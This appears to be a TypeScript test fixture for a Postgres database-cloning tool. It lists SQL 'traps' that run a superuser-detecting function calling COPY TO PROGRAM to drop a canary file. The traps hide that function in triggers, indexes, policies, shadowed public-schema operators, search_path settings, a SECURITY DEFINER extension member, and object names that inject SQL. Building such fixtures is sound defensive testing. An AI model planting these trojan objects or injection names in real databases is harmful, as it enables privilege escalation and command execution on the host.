/**
 * What a resourceful user leaves in a clone for whoever comes next: code that runs by itself, or in place of what was meant, and that
 * puts a file at `{OPEN}/caught` when a superuser runs it. The statements that need no transaction are run one by one.
 */
export const TRAPS: readonly string[] = [
  `CREATE FUNCTION public.spring() RETURNS void LANGUAGE plpgsql AS $f$
   BEGIN
     IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
       COPY (SELECT current_user, session_user) TO PROGRAM 'cat >> {OPEN}/caught';
     END IF;
   END $f$`,
  `CREATE FUNCTION public.lure(anyelement) RETURNS anyelement IMMUTABLE LANGUAGE plpgsql
   AS 'BEGIN PERFORM public.spring(); RETURN $1; END'`,
  // Evaluated by ANALYZE, VACUUM, REINDEX and autovacuum.
  'CREATE TABLE public.baited (a int DEFAULT public.lure(1) CHECK (public.lure(a) IS NOT NULL), b int)',
  'CREATE INDEX ON public.baited (public.lure(a)) WHERE public.lure(b) > 0',
  'CREATE STATISTICS public.baited_statistics ON (public.lure(a)), b FROM public.baited',
  'INSERT INTO public.baited SELECT i, i FROM generate_series(1, 500) i',
  'CREATE INDEX ON public.actor (public.lure(actor_id))',
  'CREATE MATERIALIZED VIEW public.baited_view AS SELECT public.lure(a) FROM public.baited',
  'CREATE VIEW public.pg_authid AS SELECT public.lure(1) AS oid',
  'ALTER TABLE public.baited ENABLE ROW LEVEL SECURITY',
  'ALTER TABLE public.baited FORCE ROW LEVEL SECURITY',
  'CREATE POLICY p ON public.baited USING (public.lure(a) > 0)',
  // Run by what changes a row, even for replicas.
  `CREATE FUNCTION public.on_row() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.spring(); RETURN NEW; END'`,
  'CREATE TRIGGER t BEFORE INSERT OR UPDATE OR DELETE ON public.actor FOR EACH ROW EXECUTE FUNCTION public.on_row()',
  'ALTER TABLE public.actor ENABLE ALWAYS TRIGGER t',
  'CREATE RULE r AS ON UPDATE TO public.baited DO ALSO SELECT public.spring()',
  // The data's own event trigger, whose function the user may replace.
  `CREATE OR REPLACE FUNCTION public.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.spring(); END'`,
  // In place of Postgres' own, for whoever looks into public first.
  ...['name', 'oid', 'text'].flatMap((type) => [
    `CREATE FUNCTION public.same_${type}(${type}, ${type}) RETURNS bool LANGUAGE plpgsql AS 'BEGIN PERFORM public.spring(); RETURN $1 OPERATOR(pg_catalog.=) $2; END'`,
    `CREATE OPERATOR public.= (LEFTARG = ${type}, RIGHTARG = ${type}, FUNCTION = public.same_${type})`,
  ]),
  `CREATE FUNCTION public.current_setting(text) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.spring(); RETURN pg_catalog.current_setting($1); END $f$`,
  `CREATE FUNCTION public.format(text, text, text) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.spring(); RETURN ''; END $f$`,
  // Names that end the statement in which they stand, where nobody quotes them.
  `CREATE SCHEMA "x""; SELECT public.spring(); --"`,
  `CREATE FUNCTION public."f(); SELECT public.spring(); --"() RETURNS int LANGUAGE sql AS 'SELECT 1'`,
  `CREATE TYPE public."t'; SELECT public.spring(); --" AS ENUM ('a')`,
  `CREATE TABLE "x""; SELECT public.spring(); --"."\\'; SELECT public.spring(); --" (a int)`,
  `CREATE DOMAIN public.baited_domain AS int CHECK (public.lure(VALUE) > 0)`,
  'CREATE DATABASE "d""; SELECT public.spring(); --"',
  `SELECT lo_from_bytea(0, 'x')`,
  // A part of an extension, to be lifted with it.
  'CREATE EXTENSION citext SCHEMA public',
  `CREATE FUNCTION public.part() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN PERFORM public.spring(); RETURN current_user; END'`,
  'ALTER EXTENSION citext ADD FUNCTION public.part()',
  'ALTER EXTENSION citext ADD TABLE public.baited',
  // What a session of the lab would take over from the database.
  `ALTER DATABASE pagila SET search_path = public, pg_catalog`,
  'ALTER DATABASE pagila SET standard_conforming_strings = off',
  `ALTER DATABASE pagila SET role = 'dblab_owner'`,
  'ALTER DATABASE pagila SET default_transaction_read_only = on',
]
